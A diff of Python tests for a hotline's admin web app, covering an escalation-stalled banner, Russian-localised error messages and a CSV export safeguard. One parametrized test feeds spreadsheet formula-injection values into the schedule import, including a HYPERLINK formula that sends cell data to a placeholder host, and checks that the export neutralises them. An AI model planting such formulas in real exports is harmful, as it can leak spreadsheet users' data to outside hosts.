@@ -92,6 +92,16 @@ def test_dashboard_shows_a_failed_message_masked(client_as, db):
     assert "+996***22" in messages and RESIDENT not in messages
 
 
+def test_dashboard_banner_while_escalation_is_stalled(client_as, app):
+    from hotline.alerts import beat_watch
+
+    for role in ("coordinator", "social_worker"):
+        assert 'id="escalation-stalled"' in client_as(role).get("/admin/").get_data(as_text=True)
+    with app.app_context():
+        beat_watch.record_pass()  # an escalation pass just ran
+    assert 'id="escalation-stalled"' not in client_as("coordinator").get("/admin/").get_data(as_text=True)
+
+
 # --- alerts ---
 
 def test_alert_from_a_signed_sms_is_acknowledged_and_closed_on_behalf(client_as, twilio, db, staff):
@@ -111,7 +121,7 @@ def test_alert_from_a_signed_sms_is_acknowledged_and_closed_on_behalf(client_as,
     told = [m.body for m in _sms_to(db, worker_phone) if RESIDENT in m.body]
     assert len(told) == 1 and alert.code in told[0]  # taken on their behalf: the number by SMS
     page = coordinator.get(f"/admin/alerts/{alert.id}").get_data(as_text=True)
-    assert "acknowledged" in page and RESIDENT not in page
+    assert "<td>принята</td>" in page and RESIDENT not in page  # the timeline's "acknowledged", in Russian
     assert RESIDENT in client_as("social_worker").get(f"/admin/alerts/{alert.id}").get_data(as_text=True)
     coordinator.post(f"/admin/alerts/{alert.id}/close", data={"staff_id": staff["social_worker"],
                                                               "outcome": "safe with relatives"})
@@ -225,7 +235,7 @@ def test_schedule_import_with_line_numbered_errors_then_export(client_as, db, pl
     response = client.post("/admin/schedule/import", data={"file": (io.BytesIO(bad.encode()), "s.csv")},
                            content_type="multipart/form-data")
     page = response.get_data(as_text=True)
-    assert response.status_code == 400 and "line 3" in page and "line 4" in page
+    assert response.status_code == 400 and "строка 3" in page and "строка 4" in page  # "line 3", in Russian
     from hotline.schedule.models import Visit
 
     assert db.session.scalars(select(Visit)).all() == []  # all or nothing
@@ -239,13 +249,30 @@ def test_schedule_import_with_line_numbered_errors_then_export(client_as, db, pl
     assert f"1101,{day},10:00,12:00,School" in exported
 
 
+@pytest.mark.parametrize("point", ['=HYPERLINK("http://x.example/?"&A1,"Мектеп")', "+7 школа", "-1+2", "@SUM(A1)"])
+def test_the_export_neutralises_cells_a_spreadsheet_would_run(client_as, db, place, point):
+    import csv
+
+    from hotline.core.clock import now_local
+
+    client = client_as("coordinator")
+    day = (now_local() + timedelta(days=10)).date().isoformat()
+    upload = io.StringIO()
+    csv.writer(upload).writerows([["place_code", "date", "start", "end", "meeting_point"],
+                                  ["1101", day, "10:00", "12:00", point]])
+    assert client.post("/admin/schedule/import", data={"file": (io.BytesIO(upload.getvalue().encode()), "s.csv")},
+                       content_type="multipart/form-data").status_code == 302
+    rows = list(csv.reader(io.StringIO(client.get("/admin/schedule/export.csv").get_data(as_text=True))))
+    assert rows[1] == ["1101", day, "10:00", "12:00", "'" + point]  # read as text, shown as typed
+
+
 def test_an_upload_that_is_not_utf8_names_the_line_not_a_temporary_file(client_as, db, place):
     client = client_as("coordinator")
     data = "place_code,date,start,end,meeting_point\n1101,2030-01-10,10:00,12:00,Мектеп\n".encode("cp1251")
     response = client.post("/admin/schedule/import", data={"file": (io.BytesIO(data), "s.csv")},
                            content_type="multipart/form-data")
     page = response.get_data(as_text=True)
-    assert response.status_code == 400 and "line 2: not UTF-8 text" in page and "/tmp" not in page
+    assert response.status_code == 400 and "строка 2: текст не в UTF-8" in page and "/tmp" not in page
 
 
 def test_a_second_visit_at_the_same_place_and_start_is_refused_plainly(client_as, db, place):
@@ -398,7 +425,7 @@ def test_simulator_sms_goes_through_the_signed_webhook(client_as, db):
     db.session.rollback()
     assert db.session.scalars(select(InboundMessage)).one().from_phone == RESIDENT
     page = client.get("/admin/simulator").get_data(as_text=True)
-    assert 'class="bubble in">HELP' in page and page.count('class="bubble out"') >= 1
+    assert 'class="bubble in" translate="no">HELP' in page and page.count('class="bubble out"') >= 1
 
 
 def test_simulator_call_follows_the_gather_actions(client_as, db):
@@ -483,7 +510,7 @@ def test_bad_phone_shows_the_error_and_writes_nothing(client_as, db):
     # the service's other checks come through the same way
     response = client.post("/admin/staff/add", data={"name": "Short", "phone": NEW_PHONE, "role": "lawyer",
                                                      "password": "short"})
-    assert response.status_code == 400 and "at least 8 characters" in response.get_data(as_text=True)
+    assert response.status_code == 400 and "не короче 8 символов" in response.get_data(as_text=True)  # "at least 8 characters"
     assert _staff_by_phone(db, NEW_PHONE) is None
 
 
@@ -494,7 +521,7 @@ def test_duplicate_phone_is_refused(client_as, db):
     response = client.post("/admin/staff/add", data={"name": "Twin", "phone": PEOPLE["lawyer"][1],
                                                      "role": "lawyer"})
     assert response.status_code == 400
-    assert "already exists" in response.get_data(as_text=True)
+    assert "Сотрудник с этим номером уже есть." in response.get_data(as_text=True)
     db.session.rollback()  # end the test's read transaction: see the request's commit
     assert db.session.scalar(select(func.count()).select_from(Staff)
                              .where(Staff.phone == PEOPLE["lawyer"][1])) == 1
